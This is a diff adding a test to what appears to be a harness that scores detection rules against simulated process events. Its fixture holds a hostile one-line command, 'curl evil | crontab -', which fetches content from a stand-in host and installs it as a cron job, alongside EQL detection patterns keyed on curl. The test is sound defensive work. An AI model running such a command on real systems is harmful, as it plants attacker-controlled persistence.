@@ -171,6 +171,34 @@ describe('an attack', () => {
     );
   });
 
+  it("gives nobody credit for the text of the harness's own shell", () => {
+    const script = ['/bin/sh', '-c', 'curl evil | crontab -'];
+    const runner = process({ pid: 200, executable: '/bin/dash', args: script, parent: outside });
+    const crontab = process({
+      pid: 201,
+      executable: '/usr/bin/crontab',
+      args: ['crontab', '-'],
+      parent: runner,
+    });
+    const { rules } = loadRules([
+      { file: 'curl.eql', text: 'process where process.command_line : "*curl*"' },
+      { file: 'child.eql', text: 'process where process.parent.command_line : "*curl*"' },
+      { file: 'shell.eql', text: 'process where event.action == "exec" and process.name == "dash"' },
+      { file: 'crontab.eql', text: 'process where process.name == "crontab"' },
+    ]);
+    const record = verdictOf(
+      { expectation: null, steps: [step('attack', script, 0)] },
+      [running(pid1), running(cron), exec(runner), fork(crontab), exec(crontab)],
+      book(...rules),
+    );
+    expect(record.detections.map(({ rule }) => rule)).toEqual(['crontab']);
+    expect(record.reasons.filter((line) => line.includes("the harness's own shell"))).toEqual([
+      expect.stringMatching(/^curl matches only .* \(ebpf-3.*counts for nobody/),
+      expect.stringMatching(/^shell matches only .* \(ebpf-3\)/),
+      expect.stringMatching(/^child matches only .* \(ebpf-4, ebpf-5\)/),
+    ]);
+  });
+
   it('is inert when it was scheduled and nothing launched it, with the log line that says why', () => {
     const logged = event('process', 'info', 'log', {
       message: 'Error: bad minute; while reading /etc/cron.d/evil',
